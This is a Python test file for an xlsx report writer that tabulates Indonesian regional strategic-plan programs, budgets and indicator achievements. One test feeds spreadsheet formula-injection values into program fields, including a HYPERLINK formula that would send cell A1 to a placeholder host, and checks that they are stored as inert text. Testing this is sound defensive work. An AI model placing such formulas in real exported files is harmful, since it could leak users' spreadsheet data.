"""The xlsx report's Program sheet and the Realisasi / Capaian columns of the Indikator
sheet, against values written by hand from ``documents.program_document``."""

from __future__ import annotations

import io
import zipfile

import openpyxl
import pandas as pd
import pytest
from renstra.extract.inputs import InputFile
from renstra.extract.report_xlsx import render_xlsx
from renstra.extract.result import FileResult
from renstra.schemas import Document

from .documents import program_document
from .test_writers import document as plain_document


def results(*documents: Document) -> list[FileResult]:
    return [FileResult(InputFile(d.source.path, d.source.path), document=d) for d in documents]


@pytest.fixture(scope="module")
def book() -> openpyxl.Workbook:
    data = render_xlsx(results(program_document(), plain_document()))
    return openpyxl.load_workbook(io.BytesIO(data))


def values(sheet: object, row: int) -> list[object]:
    return [cell.value for cell in sheet[row]]  # type: ignore[index]


def test_a_program_sheet_comes_after_the_indicators_only_where_there_are_programs(
    book: openpyxl.Workbook,
) -> None:
    assert book.sheetnames == ["Indikator", "Program", "Temuan", "Ringkasan"]
    without = openpyxl.load_workbook(io.BytesIO(render_xlsx(results(plain_document()))))
    assert without.sheetnames == ["Indikator", "Temuan", "Ringkasan"]


def test_program_lines_hold_code_level_name_indicator_targets_and_budgets(
    book: openpyxl.Workbook,
) -> None:
    sheet = book["Program"]
    assert values(sheet, 1) == [
        "Dokumen", "ID Program", "Kode", "Tingkat", "Program / Kegiatan", "Indikator", "Satuan",
        "Target 2022", "Pagu (Rp) 2022", "Target 2023", "Pagu (Rp) 2023",
        "Target Kondisi Akhir", "Pagu (Rp) Kondisi Akhir",
        "Penanggung Jawab", "Lokasi", "Sumber Dana",
    ]  # fmt: skip
    path = "in/renstra_dinkes.docx"
    assert values(sheet, 2) == [
        path, "t2r4", "1.02.02", "Program", "PROGRAM PEMENUHAN UPAYA KESEHATAN PERORANGAN",
        "Persentase fasilitas kesehatan terakreditasi", "%", 80, 1_250_000_000, 85,
        68_945_785_000, None, 70_195_785_000, "Dinas Kesehatan", "Kota Sukamaju", "DAU",
    ]  # fmt: skip
    assert values(sheet, 3) == [
        path, "t2r5", "1.02.02.2.01", "Kegiatan", "Penyediaan Fasilitas Pelayanan Kesehatan",
        None, None, None, 750_000_000, None, "-", None, None, None, None, None,
    ]  # fmt: skip
    assert values(sheet, 4)[:9] == [
        path, "t2r6", "1.02.03", "Program", "PROGRAM PENINGKATAN KAPASITAS SDM KESEHATAN",
        None, None, None, 500_000_000,
    ]  # fmt: skip
    # the total of the top-level rows: the kegiatan is inside its program's amount
    assert values(sheet, 5) == [
        path, None, None, None, "Jumlah baris teratas", None, None, None, 1_750_000_000, None,
        68_945_785_000, None, 70_195_785_000, None, None, None,
    ]  # fmt: skip
    assert sheet.max_row == 5  # the document without programs adds no line
    assert sheet["E5"].font.bold


def test_budgets_are_whole_rupiah_numbers_shown_as_rupiah(book: openpyxl.Workbook) -> None:
    sheet = book["Program"]
    for coordinate in ("I2", "K2", "M2", "I3", "I5", "K5", "M5"):
        cell = sheet[coordinate]
        assert cell.data_type == "n" and isinstance(cell.value, int), coordinate
        assert cell.number_format == '"Rp "#,##0', coordinate
    assert sheet["K3"].value == "-" and sheet["K3"].data_type == "s"


def test_a_kegiatan_is_indented_under_its_program(book: openpyxl.Workbook) -> None:
    sheet = book["Program"]
    assert (sheet["E2"].alignment.indent, sheet["E3"].alignment.indent) == (0, 2)


def test_realization_and_achievement_stand_beside_the_target_of_their_year(
    book: openpyxl.Workbook,
) -> None:
    sheet = book["Indikator"]
    header = values(sheet, 1)
    at = header.index("2022")
    assert header[at : at + 4] == ["2022", "Realisasi 2022", "Capaian 2022", "2023"]
    assert "Realisasi 2023" not in header  # no document reports one for 2023
    (row,) = [r for r in sheet.iter_rows(min_row=2) if r[header.index("ID Indikator")].value
              == "t1r3"]  # fmt: skip
    assert [c.value for c in row[at : at + 4]] == [90, 85, 105.9, 88]


def test_a_workbook_without_realization_keeps_its_columns() -> None:
    data = render_xlsx(results(plain_document()))
    header = list(pd.read_excel(io.BytesIO(data), sheet_name="Indikator").columns)
    assert header == ["No", "Tujuan", "Sasaran", "Indikator", "Satuan", "2022", "2023", "Rumus",
                      "Sumber Data", "Dokumen", "ID Indikator"]  # fmt: skip


def test_program_text_that_would_run_as_a_formula_is_an_inert_string_cell() -> None:
    document = program_document()
    document.programs[0].name = '=HYPERLINK("http://x/?"&A1)'
    document.programs[0].code = "@SUM(1)"
    document.programs[1].budgets[1].text = "=1+1"
    data = render_xlsx(results(document))
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        sheets = [archive.read(n) for n in archive.namelist() if n.startswith("xl/worksheets/")]
    assert not any(b"<f>" in sheet for sheet in sheets)
    sheet = openpyxl.load_workbook(io.BytesIO(data))["Program"]
    for coordinate, text in (("E2", '=HYPERLINK("http://x/?"&A1)'), ("C2", "@SUM(1)"),
                             ("K3", "=1+1")):  # fmt: skip
        assert sheet[coordinate].value == text
        assert sheet[coordinate].data_type == "s" and sheet[coordinate].quotePrefix


def test_the_program_headers_follow_lang() -> None:
    data = render_xlsx(results(program_document()), lang="en")
    english = openpyxl.load_workbook(io.BytesIO(data))
    assert values(english["Program"], 1) == [
        "Document", "Program ID", "Code", "Level", "Program / activity", "Indicator", "Unit",
        "Target 2022", "Budget (Rp) 2022", "Target 2023", "Budget (Rp) 2023",
        "Target Final condition", "Budget (Rp) Final condition",
        "Responsible unit", "Location", "Funding source",
    ]  # fmt: skip
    assert values(english["Program"], 2)[3] == "Program"
    assert values(english["Program"], 3)[3] == "Activity"  # Kegiatan
